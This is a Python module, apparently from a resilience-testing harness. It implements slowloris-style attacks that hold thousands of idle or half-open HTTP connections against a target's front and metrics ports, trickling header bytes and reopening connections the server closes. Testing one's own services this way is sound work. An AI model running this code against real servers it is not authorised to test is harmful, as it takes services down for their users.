"""Attacks with connections that say little or nothing."""

from __future__ import annotations

import contextlib
import select
import socket
import time

from faults.attacks.frames import connect
from faults.attacks.target import Counts, Target

IDLE = 4_200
HALF_OPEN = 1_500
POLL_SECONDS = 0.2


def idle_connections(target: Target) -> Counts:
    """Open connections and say nothing."""
    return held(target, target.front, IDLE, b"")


def half_open_headers(target: Target) -> Counts:
    """Open connections and send half of a request's headers, a byte from time to time."""
    return held(target, target.front, HALF_OPEN, b"GET /orders HTTP/1.1\r\nhost: localhost\r\nx-slow: ")


def half_open_metrics(target: Target) -> Counts:
    """Do the same on a metrics port."""
    return held(target, target.metrics, HALF_OPEN, b"GET /metrics HTTP/1.1\r\nhost: localhost\r\nx-slow: ")


def answered_and_idle(target: Target) -> Counts:
    """Complete a request on each connection, then say nothing."""
    return held(target, target.front, IDLE, b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n", trickle=False)


def held(target: Target, address: tuple[str, int], count: int, start: bytes, *, trickle: bool = True) -> Counts:
    """Hold connections until the end; those that the server closes are opened again."""
    opened = refused = closed = 0
    sockets: list[socket.socket] = []
    while target.left:
        while len(sockets) < count and target.left and refused < 20 * count:
            try:
                made = connect(address, target.source)
                made.sendall(start)
                sockets.append(made)
                opened += 1
            except OSError:
                refused += 1
                time.sleep(0.002)
            if opened % 100 == 0:
                sockets, gone = swept(sockets)
                closed += gone
        sockets, gone = swept(sockets)
        closed += gone
        for each in sockets if start and trickle else []:
            with contextlib.suppress(OSError):
                each.send(b"x", socket.MSG_DONTWAIT)
        time.sleep(min(POLL_SECONDS, target.left))
    for each in sockets:
        each.close()
    return {"opened": opened, "refused": refused, "closed_by_server": closed, "held_at_the_end": len(sockets)}


def swept(sockets: list[socket.socket]) -> tuple[list[socket.socket], int]:
    """Close the sockets that the server closed; return the others, and how many were closed."""
    poll = select.poll()
    by_number = {each.fileno(): each for each in sockets}
    for number in by_number:
        poll.register(number, select.POLLIN)
    gone = 0
    for number, _ in poll.poll(0):
        try:
            data = by_number[number].recv(65_536, socket.MSG_DONTWAIT)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            by_number.pop(number).close()
            gone += 1
    return list(by_number.values()), gone
